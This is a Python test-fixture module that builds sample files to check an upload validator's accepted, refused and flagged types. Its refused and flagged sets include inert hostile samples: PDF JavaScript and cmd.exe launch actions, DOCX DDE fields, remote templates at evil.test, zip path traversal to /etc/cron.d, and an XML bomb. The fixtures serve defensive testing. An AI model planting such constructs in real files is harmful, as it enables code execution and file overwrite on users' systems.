"""Small whole files of every accepted type, made here."""

import base64
import datetime as dt
import io
import itertools
import struct
import zipfile
import zlib
from functools import cache

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import pkcs7
from PIL import Image
from pypdf import PdfReader, PdfWriter

from demo.paper import pdf
from partnerships.services import file_types

EXE = b"MZ\x90\x00" + bytes(200)
TEXT = {"mimetype": file_types.ODT.encode(), "content.xml": b"<office/>"}
WORD = {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<r/>", "word/document.xml": b"<w:document/>"}
XML_BOMB = b'<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'


def archive(parts, method=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as packed:
        for name, content in parts.items():
            packed.writestr(name, content, zipfile.ZIP_STORED if name == "mimetype" else method)
    return file.getvalue()


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT_RELATIONS = "http://purl.oclc.org/ooxml/officeDocument/relationships"


def word(main="word/document.xml", *, relations=RELATIONS, type_=None, **more):
    """A DOCX that names its main part, as every program writes it."""
    type_ = type_ or "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = f'<Types><Override PartName="/{main}" ContentType="{type_}"/></Types>'
    root = f'<Relationships><Relationship Type="{relations}/officeDocument" Target="{main}"/></Relationships>'
    parts = {"[Content_Types].xml": types.encode(), "_rels/.rels": root.encode(), main: b"<w:document/>"}
    return archive(parts | more)


def related(kind, target, mode="External"):
    """Relationships of a part with one that leads out of the package."""
    element = f'<Relationship Id="r" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f"<Relationships>{element}</Relationships>".encode()


def field(*words, mark="instrText"):
    """The text of a DOCX with a field, its instruction spread over several runs."""
    runs = "".join(f"<w:r><w:{mark}>{word_}</w:{mark}></w:r>" for word_ in words)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:document>{mark.format('begin')}{runs}{mark.format('end')}</w:document>".encode()


def pdf_with(objects, content=None):
    """A PDF to which objects are added that a catalogue could name."""
    return (content or pdf("x")).replace(b"/Type /Catalog", b"/Type /Catalog " + objects)


def packed_pdf(objects=b""):
    """A PDF of version 1.5: its objects lie packed in a stream, and so does its table of contents."""
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % objects,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ]
    places = [sum(len(part) + 1 for part in parts[:index]) for index in range(len(parts))]
    index = b" ".join(b"%d %d" % (number + 1, place) for number, place in enumerate(places)) + b" "
    packed = zlib.compress(index + b" ".join(parts))
    start = b"%PDF-1.5\n"
    stream = b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(index),
        len(packed),
    )
    body = start + stream + packed + b"\nendstream\nendobj\n"
    rows = [(0, 0, 255), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, len(start), 0), (1, len(body), 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(2, "big") + bytes([last]) for kind, place, last in rows)
    head = b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    return body + head + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % len(body)


def rewritten_pdf(act):
    """A PDF that pypdf has changed."""
    writer = PdfWriter(PdfReader(io.BytesIO(pdf("x"))))
    act(writer)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def read_only_pdf():
    """Opens without a password; only changes are protected."""
    return rewritten_pdf(lambda writer: writer.encrypt("", owner_password="1234"))


def encrypted_archive(content):
    """Set the flag of encryption in the local and the central header."""
    local, central = content.index(b"PK\x03\x04"), content.index(b"PK\x01\x02")
    changed = bytearray(content)
    changed[local + 6] |= 1
    changed[central + 8] |= 1
    return bytes(changed)


def encrypted_pdf():
    writer = PdfWriter(PdfReader(io.BytesIO(pdf("Secret"))))
    writer.encrypt("1234")
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def picture(name, size=(40, 30), **options):
    file = io.BytesIO()
    Image.effect_noise(size, 50).convert("RGB").save(file, name, **options)
    return file.getvalue()


@cache
def signature(*, detached=True, encoding="DER", text=b"Agreement"):
    """A real signature of a certificate made for the test."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "Test")])
    now = dt.datetime.now(dt.UTC)
    certificate = (
        x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + dt.timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    options = [pkcs7.PKCS7Options.Binary] + [pkcs7.PKCS7Options.DetachedSignature] * detached
    builder = pkcs7.PKCS7SignatureBuilder().set_data(text).add_signer(certificate, key, hashes.SHA256())
    signed = builder.sign(
        serialization.Encoding.PEM if encoding == "PEM" else serialization.Encoding.DER, options
    )
    return base64.encodebytes(signed) if encoding == "base64" else signed


def container(kind=file_types.ASICE, method=zipfile.ZIP_DEFLATED, **changes):
    parts = {"mimetype": kind.encode(), "угода.pdf": pdf("x"), "META-INF/signature001.p7s": signature()}
    kept = {name: content for name, content in (parts | changes).items() if content is not None}
    return archive(kept, method)


ACCEPTED = {
    "PDF": (pdf("Demo"), file_types.PDF),
    "PDF with a little after its end": (pdf("Demo") + b"\r\n\0\0", file_types.PDF),
    "PDF with a BOM": (b"\xef\xbb\xbf" + pdf("Demo"), file_types.PDF),
    "PDF after line feeds": (b"\r\n\r\n" + pdf("Demo"), file_types.PDF),
    "PDF after bytes of a gateway": (b"\xaa" * 200 + pdf("Demo"), file_types.PDF),
    "PDF after commands for a printer": (b"\x1b%-12345X@PJL JOB\r\n" + pdf("Demo"), file_types.PDF),
    "PDF after the most that readers pass over": (b" " * 1019 + pdf("Demo"), file_types.PDF),
    "PDF 2.0": (pdf("Demo").replace(b"%PDF-1.4", b"%PDF-2.0"), file_types.PDF),
    "PDF with packed objects": (packed_pdf(), file_types.PDF),
    "PDF filled up with zeros": (pdf("Demo") + bytes(5000), file_types.PDF),
    "PDF protected from changes only": (read_only_pdf(), file_types.PDF),
    "PNG": (picture("PNG"), file_types.PNG),
    "JPEG": (picture("JPEG"), file_types.JPEG),
    "JPEG, progressive": (picture("JPEG", progressive=True), file_types.JPEG),
    "JPEG, smaller than a block": (picture("JPEG", size=(3, 5)), file_types.JPEG),
    "DOCX": (archive(WORD), file_types.DOCX),
    "DOCX of Word Online": (word("word/document2.xml"), file_types.DOCX),
    "DOCX with a main part of any name": (word("body/main.xml"), file_types.DOCX),
    "DOCX in the strict format": (word(relations=STRICT_RELATIONS), file_types.DOCX),
    "DOCX whose names are in capitals": (
        archive({name.upper(): content for name, content in WORD.items()}),
        file_types.DOCX,
    ),
    "DOCX with hyperlinks": (
        word(**{"word/_rels/document.xml.rels": related("hyperlink", "https://brovary.example/")}),
        file_types.DOCX,
    ),
    "DOCX made from a template on the author's disk": (
        word(
            **{
                "word/_rels/settings.xml.rels": related(
                    "attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"
                )
            }
        ),
        file_types.DOCX,
    ),
    "DOCX with numbers of pages": (
        word(**{"word/footer1.xml": field("PAGE")}),
        file_types.DOCX,
    ),
    "ODT": (archive(TEXT), file_types.ODT),
    "ODT whose type comes late": (archive(dict(reversed(TEXT.items()))), file_types.ODT),
    "ODT whose type is packed": (
        archive({"Mimetype": TEXT["mimetype"], "content.xml": TEXT["content.xml"]}),
        file_types.ODT,
    ),
    "ODT with a manifest alone": (
        archive(
            {
                "META-INF/manifest.xml": (
                    b'<m:manifest xmlns:m="m"><m:file-entry m:full-path="/" m:media-type="%s"/></m:manifest>'
                    % file_types.ODT.encode()
                ),
                "content.xml": b"<office/>",
            }
        ),
        file_types.ODT,
    ),
    "p7s with the PDF inside": (signature(detached=False, text=pdf("x")), file_types.P7S),
    "p7s with a line feed at its end": (signature() + b"\r\n", file_types.P7S),
    "p7s as PEM with a BOM": (b"\xef\xbb\xbf" + signature(encoding="PEM"), file_types.P7S),
    "ASiC-E without its type": (
        container(**{"mimetype": None, "план.pdf": pdf("y")}),
        file_types.ASICE,
    ),
    "ASiC-S without its type": (
        container(
            **{"mimetype": None, "META-INF/signature001.p7s": None, "META-INF/signature.p7s": signature()}
        ),
        file_types.ASICS,
    ),
    "ASiC-E with the PDF unpacked": (
        container(method=zipfile.ZIP_STORED),
        file_types.ASICE,
    ),
    "p7s detached": (signature(), file_types.P7S),
    "p7s with the text inside": (signature(detached=False), file_types.P7S),
    "p7s as PEM": (signature(encoding="PEM"), file_types.P7S),
    "p7s as base64": (signature(encoding="base64"), file_types.P7S),
    "ASiC-E": (container(), file_types.ASICE),
    "ASiC-S": (container(file_types.ASICS), file_types.ASICS),
    "ASiC-E with XAdES": (
        container(**{"META-INF/signature001.p7s": None, "META-INF/signatures.xml": b"<s/>"}),
        file_types.ASICE,
    ),
}


def cut(content):
    return content[: len(content) * 2 // 3]


def scratched(content):
    """Change bytes in the middle, where the checksums see it."""
    middle = len(content) // 2
    return (
        content[:middle]
        + bytes(255 - byte for byte in content[middle : middle + 40])
        + content[middle + 40 :]
    )


REFUSED = {
    "EXE named .pdf": (EXE, "unsupported_type"),
    "script": (b"<html><script>alert(1)</script></html>", "unsupported_type"),
    "text": ("Угода".encode(), "unsupported_type"),
    "PDF further on than readers look": (b"x" * 1025 + pdf("x"), "unsupported_type"),
    "PDF behind a page": (b"<html><script>alert(1)</script>" + pdf("x"), "unsupported_type"),
    "PDF behind a page in UTF-16": ("<script>".encode("utf-16") + pdf("x"), "unsupported_type"),
    "PDF behind an EXE": (EXE + pdf("x"), "unsupported_type"),
    "PDF behind a script": (b"#!/bin/sh\n" + pdf("x"), "unsupported_type"),
    "PDF behind an archive": (archive({"a.txt": b"x"}) + pdf("x"), "unsupported_type"),
    "PDF in front of an archive": (pdf("x") + archive({"a.txt": b"x"}), "unsupported_type"),
    "PNG in front of an archive": (picture("PNG") + archive({"a.txt": b"x"}), "unsupported_type"),
    "JPEG that is a PDF, too": (picture("JPEG", comment=b"%PDF-1.4"), "unsupported_type"),
    "any archive": (archive({"a.txt": b"x"}), "unsupported_type"),
    "archive with a word folder": (archive({"word/evil.exe": EXE}), "unsupported_type"),
    "spreadsheet": (
        archive({"[Content_Types].xml": b"<T/>", "xl/workbook.xml": b"<w/>"}),
        "unsupported_type",
    ),
    "open spreadsheet": (
        archive({**TEXT, "mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
        "unsupported_type",
    ),
    "DOCX named a spreadsheet": (
        word(type_="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        "unsupported_type",
    ),
    "EXE in front of a DOCX": (EXE + archive(WORD), "unsupported_type"),
    "PDF without an end": (cut(pdf("Demo")), "broken"),
    "PDF that is only an end": (b"%PDF-1.7\n%%EOF", "broken"),
    "PDF without pages": (pdf("x").replace(b"/Kids [3 0 R]", b"/Kids []     "), "broken"),
    "PDF with a password": (encrypted_pdf(), "encrypted"),
    "PNG signature alone": (picture("PNG")[:16] + b"<script>", "broken"),
    "PNG cut short": (cut(picture("PNG")), "broken"),
    "PNG scratched": (scratched(picture("PNG")), "broken"),
    "JPEG cut short": (cut(picture("JPEG", size=(400, 300))), "broken"),
    "JPEG that is only a beginning": (picture("JPEG")[:30], "broken"),
    "DOCX cut short": (cut(archive(WORD)), "broken"),
    "DOCX scratched": (archive(WORD, zipfile.ZIP_STORED).replace(b"<w:doc", b"<x:doc"), "broken"),
    "DOCX whose text is no XML": (archive({**WORD, "word/document.xml": b"<w:document>"}), "broken"),
    "DOCX packed by a rare method": (archive(WORD, zipfile.ZIP_LZMA), "broken"),
    "DOCX with macros": (archive({**WORD, "word/vbaProject.bin": EXE}), "has_macros"),
    "DOCM named DOCX": (
        word(type_="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "has_macros",
    ),
    "ODT with macros": (archive({**TEXT, "Basic/Standard/Module1.xml": b"<m/>"}), "has_macros"),
    "ODT with a password": (
        archive(
            {**TEXT, "META-INF/manifest.xml": b"<m><e><encryption-data/></e></m>", "content.xml": b"\xff"}
        ),
        "encrypted",
    ),
    "DOCX of Word with a password": (
        bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + "EncryptedPackage".encode("utf-16-le"),
        "encrypted",
    ),
    "DOCX with a part outside of it": (archive({**WORD, "../../etc/cron.d/x": b"x"}), "forbidden_content"),
    "DOCX with a part in the root": (archive({**WORD, "/etc/cron.d/x": b"x"}), "forbidden_content"),
    "DOCX with a part on a drive": (archive({**WORD, "C:\\x.exe": b"x"}), "forbidden_content"),
    "ODT with a part outside of it": (archive({**TEXT, "a/../../b": b"x"}), "forbidden_content"),
    "ASiC with a part outside of it": (container(**{"..\\b.pdf": b"x"}), "forbidden_content"),
    "ASiC with a macro text": (
        container(**{"угода.docx": archive({**WORD, "word/vbaProject.bin": EXE})}),
        "has_macros",
    ),
    "DOCX with a bomb in its index": (archive({**WORD, "_rels/.rels": XML_BOMB}), "forbidden_content"),
    "DOCX with an XML bomb": (archive({**WORD, "word/document.xml": XML_BOMB}), "forbidden_content"),
    "DOCX with a password": (encrypted_archive(archive(WORD)), "encrypted"),
    "ODT without its text": (archive({"mimetype": file_types.ODT.encode(), "a": b"x"}), "broken"),
    "ODT with an XML bomb": (archive({**TEXT, "content.xml": XML_BOMB}), "forbidden_content"),
    "archive signature alone": (b"PK\x03\x04" + b"\xff" * 60, "broken"),
    "p7s cut short": (cut(signature()), "broken"),
    "p7s PEM cut short": (cut(signature(encoding="PEM")), "broken"),
    "p7s base64 cut short": (cut(signature(encoding="base64")), "broken"),
    "p7s that is only a beginning": (signature()[:20], "broken"),
    "ASiC without a signature": (container(**{"META-INF/signature001.p7s": None}), "no_signature"),
    "ASiC without a signed file": (container(**{"угода.pdf": None}), "no_signature"),
    "ASiC with a broken signature": (container(**{"META-INF/signature001.p7s": b"0\x03abc"}), "broken"),
    "ASiC cut short": (cut(container()), "broken"),
    "ASiC with an XML bomb": (container(**{"META-INF/signatures.xml": XML_BOMB}), "forbidden_content"),
}

JS = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
# What is refused or, by setting, taken with a warning: content, and the codes of what is inside.
WITH_SOMETHING_INSIDE = {
    "PDF with JavaScript": (pdf_with(JS), ["program"]),
    "PDF with JavaScript behind a BOM": (b"\xef\xbb\xbf" + pdf_with(JS), ["program"]),
    "PDF with JavaScript in disguise": (
        pdf_with(JS.replace(b"/JavaScript", b"/J#61vaScr#69pt")),
        ["program"],
    ),
    "PDF with JavaScript in packed objects": (
        packed_pdf(JS),
        ["program"],
    ),
    "PDF with a command": (pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), ["launch"]),
    "PDF with other files": (
        rewritten_pdf(lambda writer: writer.add_attachment("a.exe", EXE)),
        ["embedded_files"],
    ),
    "DOCX with a template from elsewhere": (
        word(**{"word/_rels/settings.xml.rels": related("attachedTemplate", "https://evil.test/a.dotm")}),
        ["external_template"],
    ),
    "DOCX with a template from another machine": (
        word(
            **{"word/_rels/settings.xml.rels": related("attachedTemplate", "file:///\\\\evil.test\\a.dotm")}
        ),
        ["external_template"],
    ),
    "DOCX with a frame": (
        word(**{"word/_rels/webSettings.xml.rels": related("frame", "https://evil.test/")}),
        ["external_frame"],
    ),
    "DOCX with a linked object": (
        word(**{"word/_rels/document.xml.rels": related("oleObject", "https://evil.test/a.xlsx")}),
        ["linked_object"],
    ),
    "DOCX with a linked picture": (
        word(**{"word/_rels/header1.xml.rels": related("image", "https://evil.test/a.png")}),
        ["linked_object"],
    ),
    "DOCX with a text of another file": (
        word(**{"word/_rels/document.xml.rels": related("aFChunk", "https://evil.test/a.html")}),
        ["linked_object"],
    ),
    "DOCX that asks another program": (
        word(**{"word/document.xml": field("DDE", "AUTO c:\\\\cmd")}),
        ["linked_object"],
    ),
    "DOCX that asks another program in a footer": (
        word(**{"word/footer1.xml": field("DDEAUTO cmd")}),
        ["linked_object"],
    ),
    "DOCX with ActiveX": (word(**{"word/activeX/activeX1.xml": b"<ax/>"}), ["program"]),
    "DOCX with a packed file": (
        word(**{"word/embeddings/oleObject1.bin": b"x" + "\x01Ole10Native".encode("utf-16-le") + EXE}),
        ["embedded_files"],
    ),
    "ODT with a linked object": (
        archive({**TEXT, "content.xml": b'<o><draw:object xlink:href="https://evil.test/a"/></o>'}),
        ["linked_object"],
    ),
    "ODT with a frame": (
        archive({**TEXT, "content.xml": b'<o><draw:floating-frame xlink:href="https://evil.test/"/></o>'}),
        ["external_frame"],
    ),
    "ASiC with such a PDF": (container(**{"угода.pdf": pdf_with(JS)}), ["program"]),
    "p7s with such a PDF inside": (signature(detached=False, text=pdf_with(JS)), ["program"]),
}


def font_with(letters, family="Test Letters"):
    """A TrueType font in which each of these letters (of the basic plane) is a square of its own height."""
    letters = sorted(letters)
    outlines = [b"", *(_square(300 + 10 * number) for number in range(len(letters)))]
    places = [0, *itertools.accumulate(map(len, outlines))]
    count, names = len(outlines), [(1, family), (2, "Regular"), (4, family), (6, family.replace(" ", ""))]
    texts = [(number, text.encode("utf-16-be")) for number, text in names]
    starts = [0, *itertools.accumulate(len(text) for _number, text in texts)]
    records = b"".join(
        struct.pack(">6H", 3, 1, 0x409, number, len(text), start)
        for (number, text), start in zip(texts, starts, strict=False)
    )
    return _sfnt({
        b"OS/2": struct.pack(
            ">HhHHH 10h h 10s 4L 4s HHH hhh HH LL hh HHH", 4, 500, 400, 5, 0, *[0] * 10, 0, bytes(10),
            0, 0, 0, 0, b"TEST", 0x40, ord(letters[0]), ord(letters[-1]), 800, -200, 0, 800, 200, 1, 0,
            400, 700, 0, 32, 0,
        ),
        b"cmap": _character_map(letters),
        b"glyf": b"".join(outlines),
        b"head": struct.pack(
            ">LLLLHHqqhhhhHHhhh", 0x10000, 0x10000, 0, 0x5F0F3CF5, 3, 1000, 0, 0, 0, 0, 1000, 1000, 0, 8, 2, 1, 0
        ),
        b"hhea": struct.pack(">L hhhH hhh hhh 4h hH", 0x10000, 800, -200, 0, 500, 0, 0, 500, 1, 0, 0, 0, 0, 0, 0, 0,
                             count),
        b"hmtx": struct.pack(">Hh", 500, 0) * count,
        b"loca": struct.pack(f">{count + 1}L", *places),
        b"maxp": struct.pack(">L14H", 0x10000, count, 4, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0),
        b"name": struct.pack(">3H", 0, len(texts), 6 + len(records)) + records + b"".join(t for _n, t in texts),
        b"post": struct.pack(">LLhhLLLLL", 0x30000, 0, 0, 0, 0, 0, 0, 0, 0),
    })  # fmt: skip


def _square(height):
    ends = struct.pack(">hhhhh H H", 1, 0, 0, 400, height, 3, 0)
    x, y = struct.pack(">4h", 0, 0, 400, 0), struct.pack(">4h", 0, height, 0, -height)
    return ends + b"\x01" * 4 + x + y + b"\0" * (-(len(ends) + 4 + 16) % 4)


def _character_map(letters):
    """Format 4, one segment for each letter and the closing one."""
    codes = [ord(letter) for letter in letters]
    segments = len(codes) + 1
    shifts = [(glyph - code) % 0x10000 for glyph, code in enumerate(codes, start=1)]
    body = struct.pack(f">4H {segments}H H {segments}H {segments}H {segments}H", 2 * segments, 0, 0, 0,
                       *codes, 0xFFFF, 0, *codes, 0xFFFF, *shifts, 1, *[0] * segments)  # fmt: skip
    table = struct.pack(">3H", 4, len(body) + 6, 0) + body
    return struct.pack(">HHHHL", 0, 1, 3, 1, 12) + table


def _sfnt(tables):
    head, body = struct.pack(">L4H", 0x10000, len(tables), 0, 0, 0), b""
    start = len(head) + 16 * len(tables)
    for tag, data in sorted(tables.items()):
        head += struct.pack(">4sLLL", tag, 0, start + len(body), len(data))
        body += data + b"\0" * (-len(data) % 4)
    return head + body
